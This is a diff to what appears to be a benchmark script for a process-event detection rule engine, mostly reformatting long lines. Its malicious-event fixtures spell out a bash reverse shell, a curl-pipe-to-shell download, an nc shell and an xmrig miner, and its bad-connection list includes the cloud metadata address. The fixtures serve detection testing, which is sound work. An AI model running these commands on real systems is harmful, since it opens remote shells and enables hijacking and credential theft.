@@ -75,7 +75,8 @@ def _p(exe: str, cmdline: list[str], uid: int = 33333, comm: str | None = None) 
 
 # A workspace terminal: bash under the IDE's node server, the supervisor, the container shim.
 IDE = [_p("/usr/bin/bash", ["bash"]),
-       _p("/ide/node/bin/node", ["/ide/node/bin/node", "/ide/out/server-main.js", "--port", "23000"]),
+       _p("/ide/node/bin/node",
+          ["/ide/node/bin/node", "/ide/out/server-main.js", "--port", "23000"]),
        _p("/.supervisor/supervisor", ["/.supervisor/supervisor", "run"]),
        _p("/usr/bin/containerd-shim-runc-v2", ["/usr/bin/containerd-shim-runc-v2", "-namespace",
                                                "k8s.io", "-id", "4f1c"], uid=0)]
@@ -94,7 +95,8 @@ BENIGN: list[tuple[int, dict[str, Any], list[dict[str, Any]]]] = [
     (3, _p("/usr/bin/git", ["git", "commit", "-m", "fix: handle empty input"]), IDE),
     (3, _p("/usr/lib/git-core/git-remote-https",
            ["git-remote-https", "origin", "https://github.com/acme/app.git"]), GIT),
-    (6, _p("/usr/bin/python3.11", ["python3", "-m", "pytest", "-q", "tests/"], comm="python3"), IDE),
+    (6, _p("/usr/bin/python3.11", ["python3", "-m", "pytest", "-q", "tests/"], comm="python3"),
+     IDE),
     (3, _p("/usr/bin/python3.11", ["/workspace/.venv/bin/python", "-m", "pip", "install", "-r",
                                    "requirements.txt"], comm="python"), IDE),
     (6, _p("/usr/bin/x86_64-linux-gnu-gcc-12", ["gcc", "-O2", "-c", "src/foo.c", "-o", "foo.o"],
@@ -131,9 +133,11 @@ BENIGN: list[tuple[int, dict[str, Any], list[dict[str, Any]]]] = [
            uid=0), HOST),
 ]
 MALICIOUS: list[tuple[int, dict[str, Any], list[dict[str, Any]]]] = [
-    (1, _p("/tmp/xmrig", ["./xmrig", "-o", "stratum+tcp://pool.example:3333", "-u", "wallet"]), IDE),
+    (1, _p("/tmp/xmrig", ["./xmrig", "-o", "stratum+tcp://pool.example:3333", "-u", "wallet"]),
+     IDE),
     (1, _p("/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]), IDE),
-    (1, _p("/usr/bin/dash", ["sh", "-c", "curl -fsSL http://203.0.113.7/i.sh | sh"], comm="sh"), IDE),
+    (1, _p("/usr/bin/dash", ["sh", "-c", "curl -fsSL http://203.0.113.7/i.sh | sh"], comm="sh"),
+     IDE),
     (1, _p("/tmp/x", ["/tmp/x"]), IDE),
     (1, _p("/usr/bin/nc.openbsd", ["nc", "-e", "/bin/sh", "203.0.113.7", "4444"], comm="nc"), IDE),
 ]
@@ -148,7 +152,8 @@ CONNECTORS = [
 ]
 # (weight, destination chooser, port chooser)
 CONNECT_MIX: list[tuple[int, Callable[[random.Random], str], Callable[[random.Random], int]]] = [
-    (60, lambda r: f"{r.choice([140, 151, 185, 199])}.{r.randrange(256)}.{r.randrange(256)}.{r.randrange(1, 255)}",
+    (60, lambda r: (f"{r.choice([140, 151, 185, 199])}.{r.randrange(256)}."
+                    f"{r.randrange(256)}.{r.randrange(1, 255)}"),
      lambda r: 443),
     (10, lambda r: f"93.184.{r.randrange(256)}.{r.randrange(1, 255)}", lambda r: 80),
     (5, lambda r: "140.82.121.4", lambda r: 22),
@@ -159,7 +164,8 @@ CONNECT_MIX: list[tuple[int, Callable[[random.Random], str], Callable[[random.Ra
      lambda r: r.randrange(1024, 65536)),
 ]
 CONNECT_BAD = [(lambda r: "169.254.169.254", lambda r: 80),
-               (lambda r: f"198.51.100.{r.randrange(1, 255)}", lambda r: r.choice([3333, 4444, 14444]))]
+               (lambda r: f"198.51.100.{r.randrange(1, 255)}",
+                lambda r: r.choice([3333, 4444, 14444]))]
 
 
 def _event(obj: dict[str, Any], i: int, ws: str) -> Event:
@@ -229,7 +235,8 @@ def synthetic_rules_yaml(count: int = SYNTHETIC_RULES,
         elif k in (1, 2, 3):  # 15%: regex or args test, gated by a name
             match = (f"{{proc.exe_name: {{in: [synth-tool-{i}, synth-tool-{i}-ng]}}, "
                      f"proc.cmdline: {{regex: '--(exfil|upload)-{i}[= ]\\S+'}}}}" if k != 3 else
-                     f"{{proc.name: {{in: [synth-cli-{i}]}}, proc.args: {{in: [--evil-{i}, -x{i}]}}}}")
+                     f"{{proc.name: {{in: [synth-cli-{i}]}}, "
+                     f"proc.args: {{in: [--evil-{i}, -x{i}]}}}}")
             shapes["name + regex/args (indexed)"] += 1
         elif k == 4:  # 5%: connection rule of a named tool
             match = (f"{{proc.exe_name: {{in: [synth-agent-{i}]}}, "
@@ -296,7 +303,7 @@ def check_agreement(rs: RuleSet, events: Sequence[Event]) -> tuple[int, int]:
     rs.reset_windows()
     naive = [[m.rule.id for m in naive_evaluate(rs.rules, ev)] for ev in events]
     rs.reset_windows()
-    for ev, a, b in zip(events, indexed, naive):
+    for ev, a, b in zip(events, indexed, naive, strict=True):  # both built from `events`
         if a != b:
             raise AssertionError(f"index and naive disagree on {ev.to_json()}: {a} vs {b}")
     return sum(1 for a in indexed if a), sum(len(a) for a in indexed)
@@ -327,7 +334,7 @@ def summarize(samples: dict[str, dict[str, list[float]]]) -> dict[str, Any]:
         res[name] = {label: statistics.median(v) for label, v in by.items()}
         res[name]["min"] = {label: min(v) for label, v in by.items()}
         res[name]["indexed / naive"] = statistics.median(
-            a / b for a, b in zip(by["indexed"], by["naive"]))
+            a / b for a, b in zip(by["indexed"], by["naive"], strict=True))  # one each per pass
     return res
 
 
@@ -353,7 +360,8 @@ def candidates_stats(rs: RuleSet, events: Sequence[Event]) -> tuple[float, int]:
     return total / len(events), sum(1 for r in rs.rules if set(r.kinds) & kinds)
 
 
-def costly_rules(rs: RuleSet, events: Sequence[Event], top: int = 6) -> list[tuple[str, float, float]]:
+def costly_rules(rs: RuleSet, events: Sequence[Event],
+                 top: int = 6) -> list[tuple[str, float, float]]:
     """(rule id, share of events it runs on, us it costs per event overall), the most
     expensive rules first: where evaluation time goes."""
     per_rule: dict[Rule, list[Event]] = {}
@@ -462,8 +470,11 @@ def main(argv: list[str] | None = None) -> int:
     targets: dict[str, Any] = {}
     if shipped is not None:
         r = result["shipped"]["rates"]["exec"]
-        targets["exec events/s judged, shipped rules >= 100,000"] = (r["Judge.judge"], r["Judge.judge"] >= EXEC_TARGET)
-        targets["exec events/s RuleSet.evaluate, shipped rules >= 100,000"] = (r["indexed"], r["indexed"] >= EXEC_TARGET)
+        judged, indexed = r["Judge.judge"], r["indexed"]
+        targets["exec events/s judged, shipped rules >= 100,000"] = (
+            judged, judged >= EXEC_TARGET)
+        targets["exec events/s RuleSet.evaluate, shipped rules >= 100,000"] = (
+            indexed, indexed >= EXEC_TARGET)
     ratio = result["synthetic"]["rates"]["exec"]["indexed / naive"]
     targets[f"indexed / naive at {len(synth)} rules (exec) >= 10x"] = (ratio, ratio >= INDEX_TARGET)
     result["targets"] = {k: {"value": v, "met": ok} for k, (v, ok) in targets.items()}
